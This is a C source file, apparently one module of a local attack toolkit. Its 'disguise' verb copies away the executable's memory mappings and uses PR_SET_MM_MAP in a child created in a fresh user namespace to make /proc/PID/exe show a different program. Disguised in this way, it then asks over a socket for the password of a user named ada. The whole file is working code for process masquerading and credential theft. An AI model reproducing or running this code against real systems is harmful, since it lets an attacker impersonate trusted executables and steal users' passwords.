/* disguise PROGRAM SOCKET: has the kernel show PROGRAM as the executable of this process, and asks for ada's password.

   PR_SET_MM_MAP changes what /proc/PID/exe shows. It needs a capability, which every process has in a user namespace that it
   makes. The change applies to the memory, which a child in such a namespace may share with this process outside it. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

enum { CHILD_STACK = 256 * 1024, MOST_PIECES = 64 };

/* Replaces all memory from the old executable by identical copies: the kernel requires that no such memory is left. */
static int leave_file(void) {
    struct {
        unsigned long first, last;
        int rights;
    } pieces[MOST_PIECES];
    size_t count = 0;
    char own[PATH_MAX] = "", line[PATH_MAX + 128];
    if (readlink("/proc/self/exe", own, sizeof own - 1) < 0) return -1;
    FILE *maps = fopen("/proc/self/maps", "re");
    while (maps && count < MOST_PIECES && fgets(line, sizeof line, maps)) {
        char rights[8], path[PATH_MAX] = "";
        if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %4095s", &pieces[count].first, &pieces[count].last, rights, path) < 4)
            continue;
        if (strcmp(path, own) != 0) continue;
        pieces[count++].rights = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0)
            | (rights[2] == 'x' ? PROT_EXEC : 0);
    }
    if (maps) fclose(maps);
    for (size_t index = 0; index < count; index++) {
        size_t size = pieces[index].last - pieces[index].first;
        void *copy = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED) return -1;
        if (pieces[index].rights & PROT_READ) memcpy(copy, (void *)pieces[index].first, size);
        if (mprotect(copy, size, pieces[index].rights) != 0) return -1;
        if (mremap(copy, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)pieces[index].first) == MAP_FAILED) return -1;
    }
    return 0;
}

static struct prctl_mm_map map;
static int error;

static int change(void *unused) {
    (void)unused;
    error = prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) == 0 ? 0 : errno;
    return 0;
}

/* Reads the other values, which stay unchanged: fields 26 to 28 and 45 to 51 of proc_pid_stat(5). */
static int read_map(void) {
    unsigned long long fields[53] = {0};
    char text[4096];
    int file = open("/proc/self/stat", O_RDONLY | O_CLOEXEC);
    ssize_t length = read(file, text, sizeof text - 1);
    close(file);
    if (length < 0) return -1;
    text[length] = 0;
    char *next = strrchr(text, ')');
    /* The state is a letter and counts as 0. */
    for (int field = 3; next && field < 53; field++, next = strchr(next + 1, ' ')) {
        if (field == 3) next++;
        fields[field] = strtoull(next, NULL, 10);
    }
    map = (struct prctl_mm_map){
        .start_code = fields[26], .end_code = fields[27], .start_stack = fields[28], .start_data = fields[45],
        .end_data = fields[46], .start_brk = fields[47], .brk = (uintptr_t)sbrk(0), .arg_start = fields[48],
        .arg_end = fields[49], .env_start = fields[50], .env_end = fields[51],
    };
    return 0;
}

int verb_disguise(int count, char **words) {
    if (count != 2) return 2;
    int program = open(words[0], O_RDONLY | O_CLOEXEC);
    char *stack = mmap(NULL, CHILD_STACK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
    if (program < 0 || stack == MAP_FAILED || leave_file() != 0 || read_map() != 0) return perror("disguise"), 1;
    map.exe_fd = (uint32_t)program;
    pid_t child = clone(change, stack + CHILD_STACK, CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL);
    if (child < 0) return perror("a user namespace"), 1;
    waitpid(child, NULL, 0);
    if (error != 0) return printf("the kernel refuses: %s\n", strerror(error)), 1;
    char shown[PATH_MAX] = "";
    if (readlink("/proc/self/exe", shown, sizeof shown - 1) > 0) printf("shown as %s\n", shown);
    char *question[] = {words[1], "find"};
    return verb_ask(2, question);
}
